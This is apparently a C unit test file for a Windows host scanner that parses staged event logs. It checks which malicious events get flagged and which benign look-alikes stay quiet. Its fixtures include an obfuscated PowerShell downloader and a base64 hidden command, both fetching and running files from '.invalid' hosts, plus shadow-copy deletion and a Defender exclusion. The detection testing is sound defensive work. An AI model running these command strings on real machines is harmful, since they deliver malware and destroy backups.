/* Event logs on staged machines: each kind of event is told where it should be, and its honest neighbour is not. The scripts are
 * pieces of text: hosts are of the domain "invalid", programs do not exist. */
#include "unit/host_said.h"

#include "base/filetime.h"
#include "base/text.h"
#include "make/evtx.h"
#include "make/staged.h"

#define LOADED "C:\\Users\\hanako\\AppData\\Local\\EEdafoGqJrPp\\pYvzqbuWqgBOj.dll"

/* Provider and channel. */
static const char *const SYSMON[] = {"Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational"};
static const char *const SECURITY[] = {"Microsoft-Windows-Security-Auditing", "Security"};
static const char *const DEFENDER[] = {"Microsoft-Windows-Windows Defender", "Microsoft-Windows-Windows Defender/Operational"};
static const char *const SCM[] = {"Service Control Manager", "System"};
static const char *const BLOCKS[] = {"Microsoft-Windows-PowerShell", "Microsoft-Windows-PowerShell/Operational"};
static const char *const ENGINE[] = {"PowerShell", "Windows PowerShell"};
static const char *const TASKS[] = {"Microsoft-Windows-TaskScheduler", "Microsoft-Windows-TaskScheduler/Operational"};
static const char *const EVENTLOG[] = {"Microsoft-Windows-Eventlog", "Security"};
static const char *const ALERTS[] = {"Microsoft Office 16 Alerts", "OAlerts"};
static const char *const NOBODY[] = {"Somebody else", "System"};

static const uint64_t then = 133118460000000000u;
static make_staged *s;
static make_evtx *logs;

static void stage(void)
{
    s = make_staged_new(arena);
    (void)make_staged_user(s, "hanako");
    logs = make_evtx_new(arena);
}

static void add_at(uint64_t time, unsigned id, const char *const *source, const make_event_pair *data, size_t count)
{
    make_evtx_add(logs, &(make_event){id, source[0], source[1], "pc1.example", time, data, count, false});
}

static const sk_host_result *run(void)
{
    make_staged_file(s, "C:\\Windows\\System32\\winevt\\Logs\\Staged.evtx", make_evtx_end(logs), 0);
    const sk_host_result *r = sk_host_run(arena, make_staged_view(s));
    assert_non_null(r);
    return r;
}

/* One event, and what it gives: check COUNT is nothing at all. */
static void expect(unsigned id, const char *const *source, const make_event_pair *data, size_t count, sk_host_check_id check, sk_host_state state)
{
    stage();
    add_at(then, id, source, data, count);
    const sk_host_result *r = run();
    if (check == SK_HOST_CHECK_COUNT) {
        assert_int_equal(r->finding_count, 0);
        assert_int_equal(sk_host_judge(r), SK_HOST_VERDICT_CLEAN);
        return;
    }
    const sk_host_finding *f = host_found(r, check);
    assert_non_null(f);
    assert_int_equal(f->state, state);
    assert_int_equal(f->time, then);
    assert_true(sk_ends_nocase(f->evidence, sk_bytes_str(sk_text_format(arena, "Staged.evtx, event %u, record 1", id))));
}

#define EXPECT(id, source, check, state, ...) \
    do { \
        const make_event_pair data[] = {__VA_ARGS__}; \
        expect(id, source, data, sizeof data / sizeof data[0], SK_HOST_CHECK_##check, SK_HOST_##state); \
    } while (0)
#define QUIET(id, source, ...) EXPECT(id, source, COUNT, NOTE, __VA_ARGS__)

static void test_services(void **state)
{
    (void)state;
    EXPECT(7045, SCM, EVENT_SERVICE, PAST, {"ServiceName", "hijk"}, {"ImagePath", "C:\\Windows\\system32\\regsvr32.exe /s \"C:\\Windows\\SysWOW64\\Abcdefg\\hijk.dll\""});
    EXPECT(4697, SECURITY, EVENT_SERVICE, PAST, {"ServiceName", "hijk"}, {"ServiceFileName", "rundll32.exe C:\\Windows\\SysWOW64\\Abcdefg\\hijk.qwe,Run"});
    EXPECT(7045, SCM, EVENT_SERVICE, PAST, {"ServiceName", "Windows Defender System Service"}, {"ImagePath", "C:\\Windows\\a.exe"});
    EXPECT(7045, SCM, EVENT_SERVICE, SUSPICIOUS, {"ServiceName", "x"}, {"ImagePath", "%SystemRoot%\\duKhLYUX.exe"});
    EXPECT(7045, SCM, EVENT_SERVICE, SUSPICIOUS, {"ServiceName", "x"}, {"ImagePath", "\\\\127.0.0.1\\ADMIN$\\a1b2c3d.exe"});
    EXPECT(7045, SCM, EVENT_SERVICE, SUSPICIOUS, {"ServiceName", "BTOBTO"}, {"ImagePath", "%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output > %TEMP%\\execute.bat"});
    EXPECT(7045, SCM, EVENT_SERVICE, NOTE, {"ServiceName", "PSEXESVC"}, {"ImagePath", "%SystemRoot%\\PSEXESVC.exe"});
    QUIET(7045, SCM, {"ServiceName", "Spooler"}, {"ImagePath", "%SystemRoot%\\System32\\spoolsv.exe"});
    QUIET(7045, SCM, {"ServiceName", "Updater"}, {"ImagePath", "\"C:\\Program Files\\Editor\\updater.exe\" --service"});
    QUIET(7045, NOBODY, {"ServiceName", "WinDefService"}, {"ImagePath", "C:\\a.exe"});
}

static void test_processes(void **state)
{
    (void)state;
    EXPECT(4688, SECURITY, EVENT_LOADER, PAST, {"NewProcessName", "C:\\Windows\\System32\\regsvr32.exe"}, {"CommandLine", "regsvr32.exe /s \"" LOADED "\""});
    EXPECT(1, SYSMON, EVENT_LOADER, PAST, {"Image", "C:\\Windows\\System32\\regsvr32.exe"}, {"CommandLine", "regsvr32 /S ..\\soci1.ocx"}, {"ParentImage", "C:\\Program Files\\Microsoft Office\\EXCEL.EXE"});
    EXPECT(1, SYSMON, EVENT_LOADER, SUSPICIOUS, {"Image", "C:\\Windows\\System32\\rundll32.exe"}, {"CommandLine", "rundll32 C:\\ProgramData\\qwe.dll,X"}, {"ParentImage", "C:\\Windows\\explorer.exe"});
    EXPECT(1, SYSMON, EVENT_FIRST, PAST, {"Image", "C:\\Users\\hanako\\AppData\\Local\\Temp\\WOrd\\2019\\Dyxxur4gx.exe"}, {"CommandLine", "x"}, {"ParentImage", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"});
    EXPECT(4688, SECURITY, EVENT_OFFICE, SUSPICIOUS, {"NewProcessName", "C:\\Windows\\System32\\cmd.exe"}, {"CommandLine", "cmd /c nothing.invalid"}, {"ParentProcessName", "C:\\Office\\WINWORD.EXE"});
    EXPECT(4688, SECURITY, EVENT_SHORTCUT, PAST, {"NewProcessName", "C:\\Windows\\System32\\cmd.exe"}, {"CommandLine", "cmd /v:on /c findstr \"glKmfOKnQLYKnNs.*\" \"Form.lnk\" > \"%tmp%\\YlScZcZKeP.vbs\""});
    EXPECT(4688, SECURITY, PAST_PROGRAM, PAST, {"NewProcessName", "C:\\Users\\hanako\\AppData\\Local\\historymachine\\historymachine.exe"}, {"CommandLine", "historymachine.exe --5f3a0b1c"});
    EXPECT(4688, SECURITY, TAKEDOWN, PAST, {"NewProcessName", "C:\\Windows\\SysWOW64\\rundll32.exe"}, {"CommandLine", "rundll32.exe C:\\x\\EmotetLoader.dll,Run"});
    EXPECT(1, SYSMON, HOLLOW_COPY, SUSPICIOUS, {"Image", "C:\\Users\\hanako\\AppData\\Local\\Temp\\certutil.exe"}, {"CommandLine", "C:\\Users\\hanako\\AppData\\Local\\Temp\\certutil.exe"});
    QUIET(1, SYSMON, {"Image", "C:\\Windows\\System32\\certutil.exe"}, {"CommandLine", "certutil.exe -hashfile C:\\Users\\a\\AppData\\Local\\Temp\\a.txt"}, {"ParentImage", "C:\\Windows\\explorer.exe"});
    QUIET(4688, SECURITY, {"NewProcessName", "C:\\Windows\\System32\\cmd.exe"}, {"CommandLine", "cmd /c dir"}, {"ParentProcessName", "C:\\Windows\\explorer.exe"});
    QUIET(4688, SECURITY, {"NewProcessName", "C:\\Windows\\System32\\rundll32.exe"}, {"CommandLine", "rundll32 printui.dll,PrintUIEntry"}, {"ParentProcessName", "C:\\Office\\WINWORD.EXE"});
    QUIET(1, SYSMON, {"Image", "C:\\Windows\\System32\\regsvr32.exe"}, {"CommandLine", "regsvr32 /s \"C:\\Program Files\\Editor\\ext.dll\""}, {"ParentImage", "C:\\Windows\\System32\\msiexec.exe"});
    QUIET(1, SYSMON, {"Image", "C:\\Users\\hanako\\AppData\\Local\\Discord\\Update.exe"}, {"CommandLine", "Update.exe --processStart Discord.exe"}, {"ParentImage", ""});
}

static void test_families(void **state)
{
    (void)state;
    EXPECT(1, SYSMON, FOLLOW_TRICKBOT, SUSPICIOUS, {"Image", "C:\\Windows\\System32\\wermgr.exe"}, {"CommandLine", "wermgr.exe"}, {"ParentImage", "C:\\Windows\\System32\\rundll32.exe"});
    EXPECT(1, SYSMON, FOLLOW_ICEDID, PAST, {"Image", "C:\\Windows\\System32\\rundll32.exe"}, {"CommandLine", "rundll32 a.dll,#1 --uyocas=\"b\""}, {"ParentImage", ""});
    EXPECT(4688, SECURITY, FOLLOW_BUMBLEBEE, SUSPICIOUS, {"NewProcessName", "C:\\Windows\\System32\\rundll32.exe"}, {"CommandLine", "rundll32 /s C:\\x\\bb.dll,BasicLoad"});
    EXPECT(4688, SECURITY, FOLLOW_RANSOM, SUSPICIOUS, {"NewProcessName", "C:\\Windows\\System32\\vssadmin.exe"}, {"CommandLine", "vssadmin delete shadows /all"});
    EXPECT(4688, SECURITY, PASSWORD_VIEWER, SUSPICIOUS, {"NewProcessName", "C:\\x\\vbc.exe"}, {"CommandLine", "vbc.exe /stext C:\\x\\a.tmp"});
    EXPECT(1116, DEFENDER, FOLLOW_QAKBOT, PAST, {"Threat Name", "Trojan:Win32/Qakbot.PA!MTB"}, {"Path", "file:_C:\\Windows\\x.dll"});
    QUIET(1, SYSMON, {"Image", "C:\\Windows\\System32\\wermgr.exe"}, {"CommandLine", "wermgr.exe -upload"}, {"ParentImage", "C:\\Windows\\System32\\svchost.exe"});
    QUIET(4688, SECURITY, {"NewProcessName", "C:\\Windows\\System32\\vssadmin.exe"}, {"CommandLine", "vssadmin list shadows"});
}

#define PIECES "$a=(('Q'+'2h'));&('ne'+'w-'+'item') $eNV:teMP\\WOrd\\2019\\ -itemtype DIrectOry;$c=&('new-'+'obje'+'c'+'t') neT.WEbcLiENt;$u=(('ht'+'tp')+'://a.invalid/*ht'+'tp://b.invalid/').\"s`Plit\"('*');" \
    "foreach($x in $u){try{$c.\"D`ow`NloaD`FILE\"($x, $f);If ((&('Ge'+'t-Item') $f).\"lEng`TH\" -ge 24731) {&('Invo'+'ke-'+'Item')($f);break}}catch{}}"

static void test_powershell(void **state)
{
    (void)state;
    EXPECT(4104, BLOCKS, EVENT_DOWNLOADER, PAST, {"MessageNumber", "1"}, {"ScriptBlockText", PIECES});
    for (unsigned i = 0; i < 4; i++) {
        static const char *const details[] = {"New-Item", "New-Object", "Get-Item", "Invoke-Item"};
        EXPECT(800, ENGINE, EVENT_DOWNLOADER, PAST, {NULL, PIECES}, {NULL, "HostApplication=C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"}, {NULL, details[i]});
    }
    EXPECT(4103, BLOCKS, EVENT_POWERSHELL, SUSPICIOUS, {"Payload", "IEX (New-Object Net.WebClient).DownloadString('http://a.invalid/')"});
    /* "(New-Object Net.WebClient).DownloadFile('http://a.invalid/a','a.invalid');Invoke-Item a.invalid" */
    EXPECT(400, ENGINE, EVENT_POWERSHELL, SUSPICIOUS,
           {NULL, "HostApplication=powershell -w hidden -e KABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAEYAaQBsAGUAKAAnAGgAdAB0AHAAOgAvAC8AYQAuAGkAbgB2AGEAbABpAGQALwBhACcALAAnAGEALgBpAG4AdgBhAGwAaQBkACcAKQA7AEkAbgB2AG8AawBlAC0ASQB0AGUAbQAgAGEALgBpAG4AdgBhAGwAaQBkAA=="});
    QUIET(4104, BLOCKS, {"ScriptBlockText", "Get-ChildItem $env:temp | foreach { $_.Length -ge 100 }"});
    QUIET(4104, BLOCKS, {"ScriptBlockText", "Invoke-WebRequest -Uri http://a.invalid/list.csv -OutFile list.csv"});
    QUIET(400, ENGINE, {NULL, "HostApplication=powershell -e RwBlAHQALQBEAGEAdABlACAALQBGAG8AcgBtAGEAdAAgAHkAeQB5AHkATQBNAGQAZAA="});
}

static void add_failure(uint64_t time, const char *account, const char *address)
{
    const make_event_pair data[] = {{"TargetUserName", account}, {"LogonType", "3"}, {"IpAddress", address}};
    add_at(time, 4625, SECURITY, data, 3);
}

static void add_burst(unsigned count, uint64_t apart)
{
    stage();
    for (unsigned i = 0; i < count; i++) {
        add_failure(then + i * apart, sk_text_format(arena, "user%u", i % 12), "192.0.2.7");
    }
}

static void test_spread(void **state)
{
    (void)state;
    const make_event_pair logon[] = {{"TargetUserName", "user3"}, {"LogonType", "3"}, {"IpAddress", "192.0.2.7"}}, share[] = {{"IpAddress", "192.0.2.7"}, {"ShareName", "\\\\*\\ADMIN$"}},
                          service[] = {{"ServiceName", "qwe"}, {"ImagePath", "regsvr32.exe /s C:\\Windows\\SysWOW64\\Abcdefg\\hijk.dll"}};
    add_burst(30, SK_FILETIME_SECOND);
    const sk_host_finding *f = host_found(run(), SK_HOST_CHECK_EVENT_SPREAD);
    assert_int_equal(f->state, SK_HOST_NOTE);
    assert_bytes(f->detail, "192.0.2.7, 30 failures, 12 accounts");
    add_burst(30, SK_FILETIME_SECOND);
    add_at(then + 40ull * SK_FILETIME_SECOND, 4624, SECURITY, logon, 3);
    add_at(then + 41ull * SK_FILETIME_SECOND, 5145, SECURITY, share, 2);
    assert_int_equal(host_found(run(), SK_HOST_CHECK_EVENT_SPREAD)->state, SK_HOST_SUSPICIOUS);
    add_burst(30, SK_FILETIME_SECOND);
    add_at(then + 40ull * SK_FILETIME_SECOND, 4624, SECURITY, logon, 3);
    add_at(then + 41ull * SK_FILETIME_SECOND, 5145, SECURITY, share, 2);
    add_at(then + 42ull * SK_FILETIME_SECOND, 7045, SCM, service, 2);
    f = host_found(run(), SK_HOST_CHECK_EVENT_SPREAD);
    assert_int_equal(f->state, SK_HOST_PAST);
    assert_bytes(f->registry, "192.0.2.7");
    add_burst(30, 600ull * SK_FILETIME_SECOND); /* one each ten minutes: somebody forgot a password */
    assert_int_equal(run()->finding_count, 0);
    add_burst(9, SK_FILETIME_SECOND);
    assert_int_equal(run()->finding_count, 0);
}

static void test_antivirus_and_logs(void **state)
{
    (void)state;
    EXPECT(1117, DEFENDER, EVENT_ANTIVIRUS, PAST, {"Threat Name", "Trojan:Win64/Emotet.BB!MTB"}, {"Path", "file:_" LOADED});
    EXPECT(1116, DEFENDER, EVENT_ANTIVIRUS, SUSPICIOUS, {"Threat Name", "TrojanDownloader:O97M/Emotet.AMO"}, {"Path", "file:_C:\\Users\\hanako\\Downloads\\a.doc"});
    EXPECT(5001, DEFENDER, EVENT_PROTECTION, NOTE, {"Product Name", "x"});
    EXPECT(5007, DEFENDER, EVENT_PROTECTION, SUSPICIOUS, {"Old Value", ""}, {"New Value", "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\Users\\hanako\\AppData\\Local = 0x0"});
    EXPECT(1102, EVENTLOG, EVENT_CLEARED, NOTE, {"SubjectUserName", "hanako"});
    EXPECT(104, EVENTLOG, EVENT_CLEARED, NOTE, {"Channel", "System"});
    EXPECT(300, ALERTS, EVENT_ALERT, NOTE, {NULL, "Microsoft Word"}, {NULL, "\xe3\x83\x9e\xe3\x82\xaf\xe3\x83\xad"});
    QUIET(1116, DEFENDER, {"Threat Name", "PUA:Win32/Continent"}, {"Path", "file:_C:\\a"});
    QUIET(5007, DEFENDER, {"Old Value", ""}, {"New Value", "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\SignatureVersion = 0x1"});
    QUIET(300, ALERTS, {NULL, "Microsoft Word"}, {NULL, "Save changes?"});
}

static void test_tasks(void **state)
{
    (void)state;
    EXPECT(4698, SECURITY, EVENT_TASK, PAST, {"TaskName", "\\Update"}, {"TaskContent", "<Exec><Command>rundll32.exe</Command><Arguments>\"C:\\Users\\hanako\\AppData\\Local\\Phxnzljad\\wcgzvziqg.ljk\",PpNQIIzq</Arguments></Exec>"});
    EXPECT(106, TASKS, EVENT_TASK, NOTE, {"TaskName", "\\qzwxkvjrbt"}, {"UserContext", "x"});
    EXPECT(200, TASKS, EVENT_TASK, SUSPICIOUS, {"TaskName", "\\a"}, {"ActionName", "C:\\Users\\hanako\\AppData\\Local\\Phxnzljad\\wcgzvziqg.exe"});
    QUIET(140, TASKS, {"TaskName", "\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan"}, {"UserName", "x"});
    QUIET(200, TASKS, {"TaskName", "\\a"}, {"ActionName", "C:\\Program Files\\Editor\\updater.exe"});
}

static void test_sysmon(void **state)
{
    (void)state;
#define REGSVR {"Image", "C:\\Windows\\System32\\regsvr32.exe"}
    EXPECT(3, SYSMON, EVENT_CONNECTION, SUSPICIOUS, REGSVR, {"DestinationIp", "203.0.113.9"}, {"DestinationHostname", ""}, {"DestinationPort", "8080"});
    EXPECT(7, SYSMON, EVENT_LOADER, PAST, REGSVR, {"ImageLoaded", LOADED}, {"Signed", "false"});
    EXPECT(11, SYSMON, EVENT_DROPPED, PAST, REGSVR, {"TargetFilename", LOADED});
    EXPECT(13, SYSMON, EVENT_RUN_VALUE, PAST, {"Image", "x"}, {"TargetObject", "HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\pYvzqbuWqgBOj.dll"}, {"Details", "regsvr32.exe \"" LOADED "\""});
    EXPECT(15, SYSMON, EVENT_DOWNLOADED, NOTE, {"Image", "chrome.exe"}, {"TargetFilename", "C:\\Users\\hanako\\Downloads\\form.doc:Zone.Identifier"}, {"Contents", "[ZoneTransfer] ZoneId=3"});
    QUIET(3, SYSMON, REGSVR, {"DestinationIp", "192.168.1.1"}, {"DestinationHostname", ""}, {"DestinationPort", "8080"});
    QUIET(3, SYSMON, REGSVR, {"DestinationIp", "fd12:3456:789a:0:0:0:0:1"}, {"DestinationHostname", ""}, {"DestinationPort", "8080"});
    QUIET(3, SYSMON, REGSVR, {"DestinationIp", "203.0.113.9"}, {"DestinationHostname", "update.example"}, {"DestinationPort", "443"});
    QUIET(7, SYSMON, REGSVR, {"ImageLoaded", LOADED}, {"Signed", "true"});
    QUIET(11, SYSMON, {"Image", "C:\\Office\\WINWORD.EXE"}, {"TargetFilename", "C:\\Users\\hanako\\Documents\\a.docx"});
    QUIET(13, SYSMON, {"Image", "x"}, {"TargetObject", "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Editor"}, {"Details", "\"C:\\Program Files\\Editor\\e.exe\""});
    QUIET(15, SYSMON, {"Image", "chrome.exe"}, {"TargetFilename", "C:\\Users\\hanako\\Downloads\\cat.png:Zone.Identifier"}, {"Contents", ""});
}

static void test_question_of_office_and_trust_record(void **state)
{
    (void)state;
    uint8_t record[24] = {1};
    record[20] = record[21] = record[22] = 0xff;
    record[23] = 0x7f;
    for (unsigned same = 0; same < 2; same++) {
        const make_event_pair question[] = {{NULL, "Microsoft Word"}, {NULL, same ? "Enable macros of form.doc?" : "Enable macros of other.doc?"}};
        stage();
        make_staged_value(s, SK_HOST_USER, 0, "Software\\Microsoft\\Office\\16.0\\Word\\Security\\Trusted Documents\\TrustRecords", "%USERPROFILE%/Downloads/form.doc", 3, sk_bytes_of(record, 24));
        add_at(then, 300, ALERTS, question, 2);
        const sk_host_finding *f = host_found(run(), SK_HOST_CHECK_CLICK_SURE);
        assert_true(same == (f != NULL));
        if (f) assert_int_equal(f->time, then);
    }
}

static void test_damaged_logs_and_too_many_events(void **state)
{
    (void)state;
    stage();
    make_staged_view(s)->live = false;
    make_staged_file(s, "C:\\Windows\\System32\\winevt\\Logs\\Other.evtx", SK_LIT("no event log"), 0);
    const make_event_pair by[] = {{"SubjectUserName", "hanako"}};
    for (unsigned i = 0; i < 150; i++) {
        add_at(then + i, 1102, EVENTLOG, by, 1);
    }
    const sk_host_result *r = run();
    assert_int_equal(r->finding_count, 100);
    assert_int_equal(r->cut, 50);
    assert_int_equal(r->blind_count, 1);
    assert_int_equal(sk_host_judge(r), SK_HOST_VERDICT_UNSCANNABLE);
}

static void test_user_of_an_event(void **state)
{
    (void)state;
    stage();
    const make_event_pair data[] = {{"SubjectUserSid", "S-1-5-21-1-2-3-1001"}, {"NewProcessName", "regsvr32.exe"}, {"CommandLine", "regsvr32.exe " LOADED}};
    add_at(then, 4688, SECURITY, data, 3);
    assert_int_equal(host_found(run(), SK_HOST_CHECK_EVENT_LOADER)->user, 0);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(test_services, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_processes, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_families, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_powershell, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_spread, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_antivirus_and_logs, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_tasks, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_sysmon, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_question_of_office_and_trust_record, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_damaged_logs_and_too_many_events, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_user_of_an_event, set_up, tear_down),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
